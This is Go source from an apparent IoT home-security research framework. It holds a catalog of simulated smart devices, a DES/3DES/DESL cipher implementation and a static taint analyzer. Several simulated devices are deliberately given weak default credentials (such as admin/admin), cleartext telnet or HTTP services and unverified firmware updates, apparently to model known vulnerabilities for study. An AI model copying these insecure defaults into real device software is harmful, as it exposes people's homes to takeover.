	p := mustProfile("smart-bulb", "Philips Hue Lightbulb")
	return New(id, p,
		WithCaps("switch", "level"),
		WithCreds(Credentials{User: "admin", Password: "admin", Default: true}),
		WithPorts(Port{Number: 80, Service: "http", Cleartext: true}),
		WithFirmware(NewFirmware("1.9.0", []byte("hue-fw-1.9.0"), true)),
		WithCloudDomains("bridge.philips-hue.example"),
		WithBehavior(mustBehavior("smart-bulb", "off", []Transition{
			{From: "off", Event: "on", To: "on"},
			{From: "on", Event: "off", To: "off"},
			{From: "on", Event: "dim", To: "dimmed"},
			{From: "dimmed", Event: "on", To: "on"},
			{From: "dimmed", Event: "off", To: "off"},
		})),
	)
}

// NewWallPad builds the Table II "wall pad" (home control panel) with a
// firmware that has a buffer-overflow-prone command parser.
func NewWallPad(id string) *Device {
	p := mustProfile("wall-pad", "Sensor Devices")
	return New(id, p,
		WithCaps("panel", "intercom"),
		WithCreds(Credentials{User: "installer", Password: "0000", Default: true}),
		WithPorts(Port{Number: 5000, Service: "control", Cleartext: true}),
		WithFirmware(NewFirmware("2.1.3", []byte("wallpad-fw-2.1.3"), false)),
		WithCloudDomains("panel.homebuilder.example"),
		WithBehavior(mustBehavior("wall-pad", "idle", []Transition{
			{From: "idle", Event: "unlock", To: "unlocked"},
			{From: "unlocked", Event: "lock", To: "idle"},
			{From: "idle", Event: "call", To: "calling"},
			{From: "calling", Event: "hangup", To: "idle"},
		})),
	)
}

// NewNetworkCamera builds the Table II "network camera" whose firmware
// update path does not verify integrity.
func NewNetworkCamera(id string) *Device {
	p := mustProfile("network-camera", "Samsung Smart Cam")
	return New(id, p,
		WithCaps("camera", "motion"),
		WithCreds(Credentials{User: "admin", Password: "1234", Default: true}),
		WithPorts(
			Port{Number: 554, Service: "rtsp", Cleartext: true},
			Port{Number: 23, Service: "telnet", Cleartext: true},
		),
		WithFirmware(NewFirmware("3.0.1", []byte("cam-fw-3.0.1"), false)),
		WithCloudDomains("stream.smartcam.example", "dropcam.example"),
		WithBehavior(mustBehavior("network-camera", "monitoring", []Transition{
			{From: "monitoring", Event: "motion", To: "recording"},
			{From: "recording", Event: "clear", To: "monitoring"},
			{From: "monitoring", Event: "disable", To: "off"},
			{From: "off", Event: "enable", To: "monitoring"},
		})),
	)
}

// NewChromecast builds the Table II "Chromecast" vulnerable to
// deauth-and-reconnect ("rickrolling").
func NewChromecast(id string) *Device {
	p := mustProfile("chromecast", "Google Chromecast")
	return New(id, p,
		WithCaps("mediaPlayer"),
		WithCreds(Credentials{}), // no admin login at all
		WithPorts(Port{Number: 8008, Service: "cast", Cleartext: true}),
		WithFirmware(NewFirmware("1.36", []byte("cast-fw-1.36"), true)),
		WithCloudDomains("cast.google.example"),
		WithBehavior(mustBehavior("chromecast", "idle", []Transition{
			{From: "idle", Event: "cast", To: "playing"},
			{From: "playing", Event: "stop", To: "idle"},
			{From: "playing", Event: "cast", To: "playing"},
		})),
	)
}

// NewCoffeeMachine builds the Table II "coffee machine" that provisions
// WiFi over an unprotected UPnP channel.
func NewCoffeeMachine(id string) *Device {
	p := mustProfile("coffee-machine", "Sensor Devices")
	return New(id, p,
		WithCaps("switch", "brew"),
		WithCreds(Credentials{User: "user", Password: "user", Default: true}),
		WithPorts(Port{Number: 1900, Service: "upnp", Cleartext: true}),
		WithFirmware(NewFirmware("0.9.2", []byte("coffee-fw-0.9.2"), false)),
		WithCloudDomains("brew.kitchen.example"),
		WithBehavior(mustBehavior("coffee-machine", "idle", []Transition{
			{From: "idle", Event: "brew", To: "brewing"},
			{From: "brewing", Event: "done", To: "idle"},
		})),
	)
}

// NewFridge builds the Table II "fridge" with generic authentication that
// can be infected to send spam mail.
func NewFridge(id string) *Device {
	p := mustProfile("fridge", "Samsung Smart TV") // appliance-grade SoC
	d := New(id, p,
		WithCaps("thermostat", "display"),
		WithCreds(Credentials{User: "admin", Password: "password", Default: true}),
		WithPorts(
			Port{Number: 80, Service: "http", Cleartext: true},
			Port{Number: 25, Service: "smtp", Cleartext: true},
		),
		WithFirmware(NewFirmware("4.2", []byte("fridge-fw-4.2"), true)),
		WithCloudDomains("food.fridge.example"),
		WithBehavior(mustBehavior("fridge", "cooling", []Transition{
			{From: "cooling", Event: "door_open", To: "open"},
			{From: "open", Event: "door_close", To: "cooling"},
			{From: "cooling", Event: "defrost", To: "defrosting"},
			{From: "defrosting", Event: "done", To: "cooling"},
		})),
	)
	d.Profile.Name = "Smart Fridge"
	return d
}

// NewOven builds the Table II "oven" on an open WiFi network.
func NewOven(id string) *Device {
	p := mustProfile("oven", "Dacor Android Oven")
	return New(id, p,
		WithCaps("oven", "thermostat"),
		WithCreds(Credentials{User: "chef", Password: "cook", Default: true}),
		WithPorts(Port{Number: 80, Service: "http", Cleartext: true}),
		WithFirmware(NewFirmware("1.1", []byte("oven-fw-1.1"), false)),
		WithCloudDomains("recipes.oven.example"),
		WithBehavior(mustBehavior("oven", "off", []Transition{
			{From: "off", Event: "preheat", To: "preheating"},
			{From: "preheating", Event: "ready", To: "hot"},
			{From: "hot", Event: "off", To: "off"},
			{From: "preheating", Event: "off", To: "off"},
		})),
	)
}

// NewThermostat builds a thermostat for automation scenarios (the §IV-C3
// temperature/window policy example).
func NewThermostat(id string) *Device {
	p := mustProfile("thermostat", "Nest Learning Thermostat")
	return New(id, p,
		WithCaps("thermostat", "temperature"),
		WithCreds(Credentials{User: "owner", Password: "correct-horse", Default: false}),
		WithPorts(Port{Number: 443, Service: "https", Cleartext: false}),
		WithFirmware(NewFirmware("5.9.3", []byte("nest-fw-5.9.3"), true)),
		WithCloudDomains("api.nest.example"),
		WithBehavior(mustBehavior("thermostat", "idle", []Transition{
			{From: "idle", Event: "heat", To: "heating"},
			{From: "heating", Event: "target_reached", To: "idle"},
			{From: "idle", Event: "cool", To: "cooling"},
			{From: "cooling", Event: "target_reached", To: "idle"},
		})),
	)
}

// NewWindowLock builds the smart window lock paired with the thermostat in
// the §IV-C3 automation-abuse scenario.
func NewWindowLock(id string) *Device {
	p := mustProfile("window-lock", "Sensor Devices")
	return New(id, p,
		WithCaps("lock", "contact"),
		WithCreds(Credentials{User: "owner", Password: "window-pass", Default: false}),
		WithPorts(),
		WithFirmware(NewFirmware("1.0", []byte("lock-fw-1.0"), true)),
		WithCloudDomains("locks.example"),
		WithBehavior(mustBehavior("window-lock", "locked", []Transition{
			{From: "locked", Event: "unlock", To: "unlocked"},
			{From: "unlocked", Event: "lock", To: "locked"},
			{From: "unlocked", Event: "open", To: "open"},
			{From: "open", Event: "close", To: "unlocked"},
		})),
	)
}

// NewSmokeDetector builds a battery sensor used in detection scenarios.
func NewSmokeDetector(id string) *Device {
	p := mustProfile("smoke-detector", "Nest Smoke Detector")
	return New(id, p,
		WithCaps("smoke", "battery"),
		WithCreds(Credentials{User: "owner", Password: "smoke-pass", Default: false}),
		WithFirmware(NewFirmware("3.1", []byte("smoke-fw-3.1"), true)),
		WithCloudDomains("api.nest.example"),
		WithBehavior(mustBehavior("smoke-detector", "clear", []Transition{
			{From: "clear", Event: "smoke", To: "alarm"},
			{From: "alarm", Event: "clear", To: "clear"},
			{From: "clear", Event: "test", To: "testing"},
			{From: "testing", Event: "clear", To: "clear"},
		})),
	)
}

// NewSmartSpeaker builds an Amazon-Echo-like voice assistant: no
// automation program dictates its behaviour, so there is no ground-truth
// DFA — XLF instead learns its activity pattern from typical traces
// (§IV-B3: "even for devices without automation programs, such as Amazon
// Echo, their activity patterns should still be predictable").
func NewSmartSpeaker(id string) *Device {
	p := mustProfile("smart-speaker", "Google Chromecast") // same SoC class
	d := New(id, p,
		WithCaps("speaker", "voice"),
		WithCreds(Credentials{User: "owner", Password: "speaker-pass", Default: false}),
		WithPorts(Port{Number: 443, Service: "https", Cleartext: false}),
		WithFirmware(NewFirmware("2.4", []byte("speaker-fw-2.4"), true)),
		WithCloudDomains("voice.assistant.example"),
		WithTypicalTraces(
			[]string{"wake", "query", "response", "idle"},
			[]string{"wake", "query", "response", "play", "stop", "idle"},
			[]string{"wake", "timer", "idle", "alarm", "stop", "idle"},
		),
	)
	d.Profile.Name = "Smart Speaker"
	return d
}

// Catalog returns one of each canonical build, for tests and the
// quickstart example.
func Catalog() []*Device {
	return []*Device{
		NewSmartBulb("bulb-1"),
		NewWallPad("wallpad-1"),
		NewNetworkCamera("cam-1"),
		NewChromecast("cast-1"),
		NewCoffeeMachine("coffee-1"),
		NewFridge("fridge-1"),
		NewOven("oven-1"),
		NewThermostat("thermo-1"),
		NewWindowLock("window-1"),
		NewSmokeDetector("smoke-1"),
		NewSmartSpeaker("speaker-1"),
	}
}

// FormatTable1 renders the paper's Table I rows plus the derived device
// class — the textual regeneration used by cmd/xlf-bench.
func FormatTable1() string {
	out := "Table I: device-layer components of a typical home network\n"
	out += fmt.Sprintf("%-34s %-26s %-10s %-10s %-10s %-10s %s\n",
		"Device Type", "Chipset", "CoreFreq", "RAM", "Flash", "Power", "Class")
	for _, p := range Table1() {
		out += fmt.Sprintf("%-34s %-26s %-10s %-10s %-10s %-10s %s\n",
			p.Name, p.Chipset, hz(p.CoreHz), bytesStr(p.RAMBytes), bytesStr(p.FlashBytes), p.Power, p.DeviceClass())
	}
	return out
}

func hz(v float64) string {
	switch {
	case v >= 1e9:
		return fmt.Sprintf("%.2gGHz", v/1e9)
	case v >= 1e6:
		return fmt.Sprintf("%.3gMHz", v/1e6)
	case v >= 1e3:
		return fmt.Sprintf("%.4gkHz", v/1e3)
	default:
		return fmt.Sprintf("%.0fHz", v)
	}
}

func bytesStr(v int64) string {
	switch {
	case v == 0:
		return "NA"
	case v >= 1<<30:
		return fmt.Sprintf("%dGB", v>>30)
	case v >= 1<<20:
		return fmt.Sprintf("%dMB", v>>20)
	case v >= 1<<10:
		return fmt.Sprintf("%dKB", v>>10)
	default:
		return fmt.Sprintf("%dB", v)
	}
}
