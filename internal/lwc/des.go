package lwc

import (
	"crypto/cipher"
	"encoding/binary"
)

// This file implements DES (FIPS 46-3), Triple-DES (EDE), and DESL
// (Leander et al., FSE 2007 — the lightweight DES variant that replaces the
// eight S-boxes with a single strengthened S-box and drops the initial and
// final permutations). DES appears in Table III with its 56-bit effective
// key (the table prints "54"); keys are passed in the standard 64-bit
// parity-encoded form. The from-scratch DES is cross-checked against
// crypto/des in the test suite.

// Standard DES tables, 1-based bit indices with bit 1 = MSB, per FIPS 46-3.
var (
	desIP = [64]byte{
		58, 50, 42, 34, 26, 18, 10, 2,
		60, 52, 44, 36, 28, 20, 12, 4,
		62, 54, 46, 38, 30, 22, 14, 6,
		64, 56, 48, 40, 32, 24, 16, 8,
		57, 49, 41, 33, 25, 17, 9, 1,
		59, 51, 43, 35, 27, 19, 11, 3,
		61, 53, 45, 37, 29, 21, 13, 5,
		63, 55, 47, 39, 31, 23, 15, 7,
	}
	desFP = [64]byte{
		40, 8, 48, 16, 56, 24, 64, 32,
		39, 7, 47, 15, 55, 23, 63, 31,
		38, 6, 46, 14, 54, 22, 62, 30,
		37, 5, 45, 13, 53, 21, 61, 29,
		36, 4, 44, 12, 52, 20, 60, 28,
		35, 3, 43, 11, 51, 19, 59, 27,
		34, 2, 42, 10, 50, 18, 58, 26,
		33, 1, 41, 9, 49, 17, 57, 25,
	}
	desE = [48]byte{
		32, 1, 2, 3, 4, 5,
		4, 5, 6, 7, 8, 9,
		8, 9, 10, 11, 12, 13,
		12, 13, 14, 15, 16, 17,
		16, 17, 18, 19, 20, 21,
		20, 21, 22, 23, 24, 25,
		24, 25, 26, 27, 28, 29,
		28, 29, 30, 31, 32, 1,
	}
	desP = [32]byte{
		16, 7, 20, 21,
		29, 12, 28, 17,
		1, 15, 23, 26,
		5, 18, 31, 10,
		2, 8, 24, 14,
		32, 27, 3, 9,
		19, 13, 30, 6,
		22, 11, 4, 25,
	}
	desPC1 = [56]byte{
		57, 49, 41, 33, 25, 17, 9,
		1, 58, 50, 42, 34, 26, 18,
		10, 2, 59, 51, 43, 35, 27,
		19, 11, 3, 60, 52, 44, 36,
		63, 55, 47, 39, 31, 23, 15,
		7, 62, 54, 46, 38, 30, 22,
		14, 6, 61, 53, 45, 37, 29,
		21, 13, 5, 28, 20, 12, 4,
	}
	desPC2 = [48]byte{
		14, 17, 11, 24, 1, 5,
		3, 28, 15, 6, 21, 10,
		23, 19, 12, 4, 26, 8,
		16, 7, 27, 20, 13, 2,
		41, 52, 31, 37, 47, 55,
		30, 40, 51, 45, 33, 48,
		44, 49, 39, 56, 34, 53,
		46, 42, 50, 36, 29, 32,
	}
	desShifts = [16]byte{1, 1, 2, 2, 2, 2, 2, 2, 1, 2, 2, 2, 2, 2, 2, 1}

	desSBoxes = [8][64]byte{
		{ // S1
			14, 4, 13, 1, 2, 15, 11, 8, 3, 10, 6, 12, 5, 9, 0, 7,
			0, 15, 7, 4, 14, 2, 13, 1, 10, 6, 12, 11, 9, 5, 3, 8,
			4, 1, 14, 8, 13, 6, 2, 11, 15, 12, 9, 7, 3, 10, 5, 0,
			15, 12, 8, 2, 4, 9, 1, 7, 5, 11, 3, 14, 10, 0, 6, 13,
		},
		{ // S2
			15, 1, 8, 14, 6, 11, 3, 4, 9, 7, 2, 13, 12, 0, 5, 10,
			3, 13, 4, 7, 15, 2, 8, 14, 12, 0, 1, 10, 6, 9, 11, 5,
			0, 14, 7, 11, 10, 4, 13, 1, 5, 8, 12, 6, 9, 3, 2, 15,
			13, 8, 10, 1, 3, 15, 4, 2, 11, 6, 7, 12, 0, 5, 14, 9,
		},
		{ // S3
			10, 0, 9, 14, 6, 3, 15, 5, 1, 13, 12, 7, 11, 4, 2, 8,
			13, 7, 0, 9, 3, 4, 6, 10, 2, 8, 5, 14, 12, 11, 15, 1,
			13, 6, 4, 9, 8, 15, 3, 0, 11, 1, 2, 12, 5, 10, 14, 7,
			1, 10, 13, 0, 6, 9, 8, 7, 4, 15, 14, 3, 11, 5, 2, 12,
		},
		{ // S4
			7, 13, 14, 3, 0, 6, 9, 10, 1, 2, 8, 5, 11, 12, 4, 15,
			13, 8, 11, 5, 6, 15, 0, 3, 4, 7, 2, 12, 1, 10, 14, 9,
			10, 6, 9, 0, 12, 11, 7, 13, 15, 1, 3, 14, 5, 2, 8, 4,
			3, 15, 0, 6, 10, 1, 13, 8, 9, 4, 5, 11, 12, 7, 2, 14,
		},
		{ // S5
			2, 12, 4, 1, 7, 10, 11, 6, 8, 5, 3, 15, 13, 0, 14, 9,
			14, 11, 2, 12, 4, 7, 13, 1, 5, 0, 15, 10, 3, 9, 8, 6,
			4, 2, 1, 11, 10, 13, 7, 8, 15, 9, 12, 5, 6, 3, 0, 14,
			11, 8, 12, 7, 1, 14, 2, 13, 6, 15, 0, 9, 10, 4, 5, 3,
		},
		{ // S6
			12, 1, 10, 15, 9, 2, 6, 8, 0, 13, 3, 4, 14, 7, 5, 11,
			10, 15, 4, 2, 7, 12, 9, 5, 6, 1, 13, 14, 0, 11, 3, 8,
			9, 14, 15, 5, 2, 8, 12, 3, 7, 0, 4, 10, 1, 13, 11, 6,
			4, 3, 2, 12, 9, 5, 15, 10, 11, 14, 1, 7, 6, 0, 8, 13,
		},
		{ // S7
			4, 11, 2, 14, 15, 0, 8, 13, 3, 12, 9, 7, 5, 10, 6, 1,
			13, 0, 11, 7, 4, 9, 1, 10, 14, 3, 5, 12, 2, 15, 8, 6,
			1, 4, 11, 13, 12, 3, 7, 14, 10, 15, 6, 8, 0, 5, 9, 2,
			6, 11, 13, 8, 1, 4, 10, 7, 9, 5, 0, 15, 14, 2, 3, 12,
		},
		{ // S8
			13, 2, 8, 4, 6, 15, 11, 1, 10, 9, 3, 14, 5, 0, 12, 7,
			1, 15, 13, 8, 10, 3, 7, 4, 12, 5, 6, 11, 0, 14, 9, 2,
			7, 11, 4, 1, 9, 12, 14, 2, 0, 6, 10, 13, 15, 3, 5, 8,
			2, 1, 14, 7, 4, 10, 8, 13, 15, 12, 9, 0, 3, 5, 6, 11,
		},
	}

	// deslSBox is the single strengthened S-box of DESL (Leander et al.,
	// FSE 2007), used in place of all eight DES S-boxes.
	deslSBox = [64]byte{
		14, 5, 7, 2, 11, 8, 1, 15, 0, 10, 9, 4, 6, 13, 12, 3,
		5, 0, 8, 15, 14, 3, 2, 12, 11, 7, 6, 9, 13, 4, 1, 10,
		4, 9, 2, 14, 8, 7, 13, 0, 10, 12, 15, 1, 5, 11, 3, 6,
		9, 6, 15, 5, 3, 8, 4, 11, 7, 1, 12, 2, 0, 14, 10, 13,
	}
)

// permute extracts bits of src per a 1-based table with bit 1 = MSB of an
// srcBits-wide value, producing a len(table)-bit value (MSB-first).
func permute(src uint64, srcBits int, table []byte) uint64 {
	var out uint64
	for _, pos := range table {
		out = out<<1 | (src >> uint(srcBits-int(pos)) & 1)
	}
	return out
}

type desCipher struct {
	subkeys [16]uint64 // 48-bit round keys
	// useIPFP selects the classic DES initial/final permutations; DESL
	// omits them.
	useIPFP bool
	// sbox returns the S-box output for box index b (0..7) and 6-bit
	// input v.
	sbox func(b int, v byte) byte
}

var _ cipher.Block = (*desCipher)(nil)

// NewDES returns single DES for an 8-byte (64-bit, parity-ignored) key.
// DES is present in Table III as the historical baseline; its 56-bit key
// is far below modern security margins and XLF never selects it for
// protection, only for comparison.
func NewDES(key []byte) (cipher.Block, error) {
	if len(key) != 8 {
		return nil, KeySizeError{Algorithm: "DES", Len: len(key)}
	}
	c := &desCipher{useIPFP: true, sbox: func(b int, v byte) byte { return desSBoxes[b][v] }}
	c.expandKey(key)
	return c, nil
}

// NewDESL returns DESL: DES with a single strengthened S-box and without
// the (cryptographically irrelevant, hardware-costly) IP/FP permutations.
func NewDESL(key []byte) (cipher.Block, error) {
	if len(key) != 8 {
		return nil, KeySizeError{Algorithm: "DESL", Len: len(key)}
	}
	c := &desCipher{useIPFP: false, sbox: func(b int, v byte) byte { return deslSBox[v] }}
	c.expandKey(key)
	return c, nil
}

func (c *desCipher) expandKey(key []byte) {
	k := binary.BigEndian.Uint64(key)
	cd := permute(k, 64, desPC1[:]) // 56 bits: C (28) || D (28)
	ch := uint32(cd >> 28)
	dh := uint32(cd & 0x0FFFFFFF)
	rot28 := func(v uint32, n byte) uint32 {
		return (v<<n | v>>(28-n)) & 0x0FFFFFFF
	}
	for i := 0; i < 16; i++ {
		ch = rot28(ch, desShifts[i])
		dh = rot28(dh, desShifts[i])
		c.subkeys[i] = permute(uint64(ch)<<28|uint64(dh), 56, desPC2[:])
	}
}

// feistel is the DES round function: expand R to 48 bits, XOR the subkey,
// apply the S-boxes, then the P permutation.
func (c *desCipher) feistel(r uint32, k uint64) uint32 {
	e := permute(uint64(r), 32, desE[:]) ^ k
	var s uint32
	for b := 0; b < 8; b++ {
		v := byte(e >> uint(42-6*b) & 0x3F)
		// Row = outer bits, column = middle four bits.
		idx := v&0x20 | (v&1)<<4 | v>>1&0xF
		s = s<<4 | uint32(c.sbox(b, idx))
	}
	return uint32(permute(uint64(s), 32, desP[:]))
}

func (c *desCipher) BlockSize() int { return 8 }

func (c *desCipher) crypt(dst, src []byte, decrypt bool) {
	v := binary.BigEndian.Uint64(src)
	if c.useIPFP {
		v = permute(v, 64, desIP[:])
	}
	l, r := uint32(v>>32), uint32(v)
	for i := 0; i < 16; i++ {
		k := c.subkeys[i]
		if decrypt {
			k = c.subkeys[15-i]
		}
		l, r = r, l^c.feistel(r, k)
	}
	// Final swap: the last round's halves are exchanged.
	v = uint64(r)<<32 | uint64(l)
	if c.useIPFP {
		v = permute(v, 64, desFP[:])
	}
	binary.BigEndian.PutUint64(dst, v)
}

func (c *desCipher) Encrypt(dst, src []byte) {
	checkBlock("DES", 8, dst, src)
	c.crypt(dst, src, false)
}

func (c *desCipher) Decrypt(dst, src []byte) {
	checkBlock("DES", 8, dst, src)
	c.crypt(dst, src, true)
}

type tripleDES struct {
	c1, c2, c3 cipher.Block
}

var _ cipher.Block = (*tripleDES)(nil)

// NewTripleDES returns DES-EDE with a 16-byte (two-key, K3=K1) or 24-byte
// (three-key) key.
func NewTripleDES(key []byte) (cipher.Block, error) {
	var k1, k2, k3 []byte
	switch len(key) {
	case 16:
		k1, k2, k3 = key[0:8], key[8:16], key[0:8]
	case 24:
		k1, k2, k3 = key[0:8], key[8:16], key[16:24]
	default:
		return nil, KeySizeError{Algorithm: "3DES", Len: len(key)}
	}
	c1, err := NewDES(k1)
	if err != nil {
		return nil, err
	}
	c2, err := NewDES(k2)
	if err != nil {
		return nil, err
	}
	c3, err := NewDES(k3)
	if err != nil {
		return nil, err
	}
	return &tripleDES{c1: c1, c2: c2, c3: c3}, nil
}

func (t *tripleDES) BlockSize() int { return 8 }

func (t *tripleDES) Encrypt(dst, src []byte) {
	checkBlock("3DES", 8, dst, src)
	var tmp [8]byte
	t.c1.Encrypt(tmp[:], src)
	t.c2.Decrypt(tmp[:], tmp[:])
	t.c3.Encrypt(dst, tmp[:])
}

func (t *tripleDES) Decrypt(dst, src []byte) {
	checkBlock("3DES", 8, dst, src)
	var tmp [8]byte
	t.c3.Decrypt(tmp[:], src)
	t.c2.Encrypt(tmp[:], tmp[:])
	t.c1.Decrypt(dst, tmp[:])
}
