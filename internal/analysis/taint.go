package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
)

// AllowTaintMarker waives a taint finding on a line where the flow is
// deliberate and reviewed (e.g. a diagnostic that intentionally prints a
// redacted token).
const AllowTaintMarker = "xlf:allow-taint"

// TaintRef names one function or method in a source/sink/sanitizer
// table. Pkg is the declaring package's import path; Recv is the bare
// receiver type name for methods ("" for package-level functions).
type TaintRef struct {
	Pkg  string
	Recv string
	Name string
}

func (r TaintRef) String() string {
	if r.Recv != "" {
		return r.Pkg + ".(" + r.Recv + ")." + r.Name
	}
	return r.Pkg + "." + r.Name
}

// TaintRule configures one dataflow invariant: values returned by a
// Source must pass through a Sanitizer before reaching a Sink.
type TaintRule struct {
	// RuleName is the diagnostic/-disable identifier.
	RuleName string
	// RuleDoc is the one-line description used for SARIF rule metadata.
	RuleDoc string
	// Tainted names the protected value class in diagnostics
	// ("plaintext device payload").
	Tainted string
	// Advice tells the author how to fix a finding ("seal it with the
	// device's channel session").
	Advice string

	Sources    []TaintRef
	Sinks      []TaintRef
	Sanitizers []TaintRef
}

// Taint is the cross-layer dataflow analyzer: an intraprocedural engine
// with lightweight interprocedural function summaries, computed to a
// fixed point over the module's call graph during Prepare.
//
// The taint domain is a bitset: one bit marks source-derived values, the
// rest mark "derived from parameter i" while a function summary is being
// computed. Taint is monotone — once a value is tainted it stays tainted
// for the rest of the function — which keeps the fixed point trivially
// terminating at the cost of flagging rare patterns like reusing one
// variable for both plain and sealed bytes (use a fresh variable, or
// waive with //xlf:allow-taint).
//
// Soundness caveats (documented in DESIGN.md §6): the engine does not
// track flows through package-level variables, struct-field granularity
// (a struct holding a tainted field is wholly tainted), or mutation of
// arguments by callees other than the conservative receiver/pointer
// rule; reflection and interface dynamic dispatch resolve only when the
// tolerant type-checker recovers the concrete method.
type Taint struct {
	Rule TaintRule

	// graph, when set, supplies the module's function index (and the
	// type oracle behind it) so the taint suite shares one call graph
	// with the concurrency and determinism layers.
	graph    *CallGraph
	oracle   *typeOracle
	prepared bool

	sources, sinks, sanitizers *refMatcher

	// funcs indexes every non-test function declaration in the prepared
	// module by its summary key.
	funcs map[string]*taintFunc
	// methodsByName supports unknown-receiver fallback lookups.
	methodsByName map[string][]string
	// summaries is the fixed-point result of Prepare.
	summaries map[string]*taintSummary
}

// NewTaintSuite builds one analyzer per rule, all sharing the given
// call graph's tolerant type-check and function index (a nil graph
// gets a private one).
func NewTaintSuite(g *CallGraph, rules ...TaintRule) []Analyzer {
	if g == nil {
		g = NewCallGraph()
	}
	out := make([]Analyzer, len(rules))
	for i, r := range rules {
		out[i] = &Taint{
			Rule:       r,
			graph:      g,
			oracle:     g.oracle,
			sources:    newRefMatcher(r.Sources),
			sinks:      newRefMatcher(r.Sinks),
			sanitizers: newRefMatcher(r.Sanitizers),
		}
	}
	return out
}

// Name implements Analyzer.
func (t *Taint) Name() string { return t.Rule.RuleName }

// Doc implements Documented.
func (t *Taint) Doc() string { return t.Rule.RuleDoc }

// taintVal is the dataflow lattice element: bit 62 marks source-derived
// values; bits 0..61 mark parameter-derived values during summary
// computation (functions with more parameters share the last bit).
type taintVal uint64

const (
	taintSource  taintVal = 1 << 62
	maxParamBits          = 62
)

func paramBit(i int) taintVal {
	if i >= maxParamBits {
		i = maxParamBits - 1
	}
	return 1 << uint(i)
}

// taintFunc is one function declaration in the prepared module.
type taintFunc struct {
	pkg  *Package
	file *File
	decl *ast.FuncDecl
	key  string
	// params holds the state keys of the receiver (if any) followed by
	// the declared parameters; nil entries are unnamed parameters.
	params []any
	ref    TaintRef
}

// taintSummary is the interprocedural behaviour of one function under
// one rule.
type taintSummary struct {
	// introduces: some result carries source taint created inside.
	introduces bool
	// propagates[i]: taint on param i reaches a result.
	propagates []bool
	// sinks[i] names the sink param i reaches ("" = none).
	sinks []string
}

func (s *taintSummary) equal(o *taintSummary) bool {
	if s.introduces != o.introduces || len(s.propagates) != len(o.propagates) {
		return false
	}
	for i := range s.propagates {
		if s.propagates[i] != o.propagates[i] || s.sinks[i] != o.sinks[i] {
			return false
		}
	}
	return true
}

// funcKey builds the summary-map key for a resolved callee.
func funcKey(pkg, recv, name string) string {
	return pkg + "\x00" + recv + "\x00" + name
}

// Prepare type-checks the module and computes function summaries to a
// fixed point over the call graph. The first call wins; see
// ModuleAnalyzer.
func (t *Taint) Prepare(pkgs []*Package) {
	if t.prepared {
		return
	}
	t.prepared = true
	t.graph.Build(pkgs)

	// The graph indexes every declaration (test files included, for the
	// concurrency rules); taint summarizes production code only.
	t.funcs = make(map[string]*taintFunc)
	t.methodsByName = make(map[string][]string)
	t.summaries = make(map[string]*taintSummary)
	for _, key := range t.graph.Keys() {
		gf := t.graph.Func(key)
		if gf.File.Test {
			continue
		}
		pt := t.oracle.typesOf(gf.Pkg)
		fd := gf.Decl
		tf := &taintFunc{pkg: gf.Pkg, file: gf.File, decl: fd, key: key}
		if fd.Recv != nil && len(fd.Recv.List) > 0 {
			tf.params = append(tf.params, fieldKeys(pt, fd.Recv.List[0])...)
		}
		for _, f := range fd.Type.Params.List {
			tf.params = append(tf.params, fieldKeys(pt, f)...)
		}
		tf.ref = TaintRef{Pkg: gf.Pkg.ImportPath, Recv: gf.Recv, Name: fd.Name.Name}
		t.funcs[key] = tf
		if gf.Recv != "" {
			t.methodsByName[fd.Name.Name] = append(t.methodsByName[fd.Name.Name], key)
		}
	}

	// Fixed point: recompute every summary with the current map until
	// nothing changes. Summaries only grow, so this terminates; the
	// iteration cap is belt and braces.
	keys := make([]string, 0, len(t.funcs))
	for k := range t.funcs {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for iter := 0; iter < 10; iter++ {
		changed := false
		for _, k := range keys {
			tf := t.funcs[k]
			s := t.summarize(tf)
			if prev, ok := t.summaries[k]; !ok || !s.equal(prev) {
				t.summaries[k] = s
				changed = true
			}
		}
		if !changed {
			break
		}
	}
}

// fieldKeys returns one state key per declared name in a parameter or
// receiver field (nil for unnamed/blank names).
func fieldKeys(pt *pkgTypes, f *ast.Field) []any {
	if len(f.Names) == 0 {
		return []any{nil}
	}
	keys := make([]any, len(f.Names))
	for i, n := range f.Names {
		if n.Name == "_" {
			continue
		}
		if pt != nil {
			if obj := pt.info.Defs[n]; obj != nil {
				keys[i] = obj
				continue
			}
		}
		keys[i] = "ident:" + n.Name
	}
	return keys
}

// recvTypeName extracts the bare receiver type name from its AST.
func recvTypeName(e ast.Expr) string {
	for {
		switch v := e.(type) {
		case *ast.StarExpr:
			e = v.X
		case *ast.ParenExpr:
			e = v.X
		case *ast.IndexExpr: // generic receiver
			e = v.X
		case *ast.Ident:
			return v.Name
		default:
			return ""
		}
	}
}

// summarize computes one function's summary with parameters seeded.
func (t *Taint) summarize(tf *taintFunc) *taintSummary {
	w := t.newWalker(tf.pkg, tf.file)
	w.summaryMode = true
	w.sinkHits = make(map[int]string)
	for i, key := range tf.params {
		if key != nil {
			w.state[key] = paramBit(i)
		}
	}
	w.run(tf.decl)
	s := &taintSummary{
		introduces: w.returns&taintSource != 0,
		propagates: make([]bool, len(tf.params)),
		sinks:      make([]string, len(tf.params)),
	}
	for i := range tf.params {
		if w.returns&paramBit(i) != 0 {
			s.propagates[i] = true
		}
		if hit, ok := w.sinkHits[i]; ok {
			s.sinks[i] = hit
		}
	}
	return s
}

// Check implements Analyzer: the reporting pass over one package, using
// the summaries computed in Prepare.
func (t *Taint) Check(pkg *Package) []Finding {
	if !t.prepared {
		t.Prepare([]*Package{pkg})
	}
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		if file.Test {
			continue
		}
		allowed := allowedLines(pkg.Fset, file.AST, AllowTaintMarker)
		for _, decl := range file.AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			w := t.newWalker(pkg, file)
			w.allowed = allowed
			w.findings = &out
			w.run(fd)
		}
	}
	return out
}

// taintWalker runs the monotone intraprocedural dataflow over one
// function body.
type taintWalker struct {
	t       *Taint
	pkg     *Package
	pt      *pkgTypes // may be nil when the oracle has no entry
	imports map[string]string
	state   map[any]taintVal
	changed bool

	// recording is set on the final pass, once taint has converged.
	recording   bool
	summaryMode bool
	sinkHits    map[int]string
	allowed     map[int]bool
	findings    *[]Finding
	reported    map[token.Pos]bool
	returns     taintVal
}

func (t *Taint) newWalker(pkg *Package, file *File) *taintWalker {
	return &taintWalker{
		t:        t,
		pkg:      pkg,
		pt:       t.oracle.typesOf(pkg),
		imports:  importMap(file.AST),
		state:    make(map[any]taintVal),
		reported: make(map[token.Pos]bool),
	}
}

